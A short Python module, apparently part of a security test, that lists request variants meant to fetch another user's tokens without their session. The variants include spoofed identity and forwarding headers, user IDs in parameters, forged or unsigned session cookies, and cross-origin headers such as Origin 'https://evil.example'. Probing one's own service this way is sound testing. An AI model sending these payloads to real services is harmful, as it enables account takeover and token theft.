"""Ways to ask for somebody's tokens without their session."""

from __future__ import annotations

NAMES = ("user_id", "user", "id", "username", "sub")


def attempts(ada: str) -> dict[str, dict[str, object]]:
    """Return arguments of httpx's ``request``, by name; ``ada`` is the ID of the user whose tokens are wanted."""
    return {
        "nothing": {},
        **{f"query-{each}": {"params": {each: ada}} for each in NAMES},
        **{f"json-{each}": {"json": {each: ada}} for each in NAMES},
        "form": {"data": dict.fromkeys(NAMES, ada)},
        "header-user-id": {"headers": {"X-User-Id": ada}},
        "header-forwarded-user": {"headers": {"X-Forwarded-User": "ada", "Remote-User": "ada", "X-Remote-User": "ada"}},
        "header-forwarded-host": {"headers": {"X-Forwarded-Host": "127.0.0.1", "X-Forwarded-For": "127.0.0.1"}},
        "header-method-override": {"headers": {"X-HTTP-Method-Override": "POST", "X-User-Id": ada}},
        "header-original-url": {"headers": {"X-Original-URL": f"/messenger/settings?user_id={ada}"}},
        "bearer": {"headers": {"Authorization": f"Bearer {ada}"}},
        "basic": {"auth": ("ada", "demo")},
        "cookie-of-an-id": {"headers": {"Cookie": f"user_id={ada}; sessionid={ada}; session={ada}"}},
        "cookie-guessed": {"headers": {"Cookie": "sessionid=0123456789abcdefghijklmnopqrstuv; session=e30.e30.e30"}},
        "cookie-unsigned": {"headers": {"Cookie": "session=eyJ1c2VyIjogIjQyIn0="}},
        "cookie-of-the-messenger": {"headers": {"Cookie": f"intercom-session-throwaway={ada}"}},
        "cookie-of-a-sign-out": {"headers": {"Cookie": "fin_messenger_signed_out=1"}},
        "session-in-the-query": {"params": {"sessionid": ada, "session": ada, "token": ada}},
    }


FOREIGN: dict[str, dict[str, str]] = {
    "cross-site": {"Sec-Fetch-Site": "cross-site"},
    "same-site": {"Sec-Fetch-Site": "same-site"},
    "none": {"Sec-Fetch-Site": "none"},
    "origin": {"Origin": "https://evil.example"},
    "null": {"Origin": "null"},
    "port": {"Origin": "http://127.0.0.1:1"},
}
"""Headers of requests from pages of other origins."""
